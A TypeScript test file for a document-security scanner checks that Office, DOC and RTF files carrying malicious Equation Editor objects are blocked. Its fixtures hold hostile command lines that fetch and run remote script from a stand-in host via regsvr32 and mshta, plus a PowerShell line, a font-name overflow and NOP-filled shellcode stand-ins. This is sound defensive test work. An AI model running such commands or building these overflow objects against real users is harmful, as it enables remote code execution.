import { describe, expect, it } from "vitest"
import { bytesOf, u16, u32, u8 } from "../ole/MakeBytes.ts"
import { makeCompoundFile, type Streams } from "../ole/MakeCompoundFile.ts"
import { makeDoc } from "../ole/MakeDoc.ts"
import { equationClass, inFont, makeCompObj, makeEquation, makeMtef } from "../ole/MakeObjects.ts"
import { mainTypes, makeOoxml, sheet, wordDocument } from "../ooxml/MakeOoxml.ts"
import { embedded, objectOf, rtf } from "../rtf/MakeRtf.ts"
import { rate } from "./Rate.ts"

const classIds = { "": equationClass }
const objectFile = (streams: Streams): Uint8Array => makeCompoundFile(streams, { classIds })

/** Builds a document with one object that has the given streams. */
type Carrier = (streams: Streams) => Uint8Array

const embedding = { id: "rId9", type: "oleObject", target: "embeddings/oleObject1.bin" }

const docx = (bin: Uint8Array): Uint8Array =>
  makeOoxml({
    mainContent: wordDocument("<w:object><o:OLEObject Type=\"Embed\" ProgID=\"Equation.3\" r:id=\"rId9\"/></w:object>"),
    parts: { "word/embeddings/oleObject1.bin": bin },
    relationships: { "word/document.xml": [embedding] }
  })

const xlsx = (bin: Uint8Array): Uint8Array =>
  makeOoxml({
    main: mainTypes.xlsx,
    mainName: "xl/workbook.xml",
    mainContent: sheet("<oleObjects><oleObject progId=\"Equation.3\" r:id=\"rId9\"/></oleObjects>"),
    parts: { "xl/embeddings/oleObject1.bin": bin },
    relationships: { "xl/workbook.xml": [embedding] }
  })

const doc: Carrier = (streams) => {
  const pool = Object.fromEntries(Object.entries(streams).map(([name, content]) => [`ObjectPool/_1/${name}`, content]))
  return makeCompoundFile({ ...makeDoc({}), ...pool }, { classIds: { "ObjectPool/_1": equationClass } })
}

const carriers: ReadonlyArray<readonly [string, Carrier]> = [
  ["docx", (streams) => docx(objectFile(streams))],
  ["docx whose object has no class of its own", (streams) => docx(makeCompoundFile(streams))],
  ["xlsx", (streams) => xlsx(objectFile(streams))],
  ["doc", doc],
  ["rtf", (streams) => rtf(objectOf(embedded("Equation.3", objectFile(streams)), "Equation.3"))],
  [
    "rtf with the class in its header alone",
    (streams) => rtf(objectOf(embedded("eQuAtIoN.3", makeCompoundFile(streams))))
  ],
  ["rtf of version 2", (streams) => rtf(objectOf(embedded("Equation.2", makeCompoundFile(streams)), "Equation.2"))]
]

const overflow = makeEquation(makeMtef(inFont("cmd /c calc.exe ".padEnd(48, "A"))))

const attacks: ReadonlyArray<readonly [string, Streams]> = [
  ["a font name that overflows", { "Equation Native": overflow }],
  ["a command line", { "Equation Native": "regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll" }],
  ["a command line behind a whole equation", {
    "Equation Native": bytesOf(makeEquation(), "mshta http://a.example/x")
  }],
  ["a wide command line", { "Equation Native": bytesOf(makeEquation(), Buffer.from("powershell -e x", "utf16le")) }],
  ["code in place of its header", { "Equation Native": new Uint8Array(300).fill(0x90) }],
  ["a header that promises more", { "Equation Native": makeEquation().subarray(0, 40) }],
  ["no data", { "\x01Ole": bytesOf(u32(0x02000001, 0, 0, 0, 0)) }],
  ["data of OLE 1 that are none", { "\x01Ole10Native": bytesOf(u32(200), u8(0xf1, 2), "x".repeat(198)) }],
  ["data of OLE 1 under another spelling", { "\x01oLe10nATivE": bytesOf(u32(40), makeMtef()) }],
  ["another spelling", { "eQuation naTive": makeEquation() }],
  ["a sound equation beside an attack", {
    "Equation Native": makeEquation(),
    "\x01Ole10Native": bytesOf(u32(90), makeMtef(inFont("A".repeat(80))))
  }]
]

describe.each(carriers)("an equation in a %s", (_, carrier) => {
  it.each(attacks)("with %s is blocked", (_, streams) => {
    expect(rate(carrier(streams))).toEqual(["block", "EXPLOIT"])
  })

  it.each<readonly [string, Streams]>([
    ["as Office writes it", { "Equation Native": makeEquation(), "\x01Ole": bytesOf(u32(0x02000001, 0, 0, 0, 0)) }],
    ["with a font", { "Equation Native": makeEquation(makeMtef(inFont("Times New Roman"))) }]
  ])("%s stays unchanged", (_, streams) => {
    expect(rate(carrier(streams))).toEqual(["ok", "EXPLOIT_OBJECT"])
  })
})

it("accepts an equation converted from OLE 1", () => {
  const native = { "\x01Ole10Native": bytesOf(u32(12), makeMtef(u8(0x0a, 1, 0x12, 0x83, 0x46, 0, 0), 2)) }
  expect(rate(doc(native))).toEqual(["ok", "EXPLOIT_OBJECT"])
  expect(rate(docx(objectFile(native)))).toEqual(["ok", "EXPLOIT_OBJECT"])
})

it("blocks an auto-updating RTF equation and one without a compound file", () => {
  const updated = objectOf(
    embedded("Equation.3", objectFile({ "Equation Native": overflow })),
    "",
    "\\objemb\\objupdate"
  )
  expect(rate(rtf(updated))).toEqual(["block", "EXPLOIT"])
  const shellCode = bytesOf(u16(0xc31c), "x".repeat(300))
  expect(rate(rtf(objectOf(embedded("Equation.3", shellCode), "Equation.3")))).toEqual(["block", "EXPLOIT"])
})

it("blocks an object that only the text declares as an equation", () => {
  expect(rate(docx(Buffer.from("regsvr32 /s")))).toEqual(["block", "EXPLOIT"])
  expect(rate(xlsx(Buffer.from("regsvr32 /s")))).toEqual(["block", "EXPLOIT"])
})

it("leaves MathType equations to MathType", () => {
  const mathType = makeCompoundFile({
    "\x01CompObj": makeCompObj("0002CE03-0000-0000-C000-000000000046", "Equation.DSMT4"),
    "Equation Native": makeEquation(makeMtef(bytesOf("DSMT4\0\0"), 5))
  }, { classIds: { "": "0002CE03-0000-0000-C000-000000000046" } })
  const relationships = { "word/document.xml": [embedding] }
  const bytes = makeOoxml({ parts: { "word/embeddings/oleObject1.bin": mathType }, relationships })
  expect(rate(bytes)).toEqual(["ok", null])
})
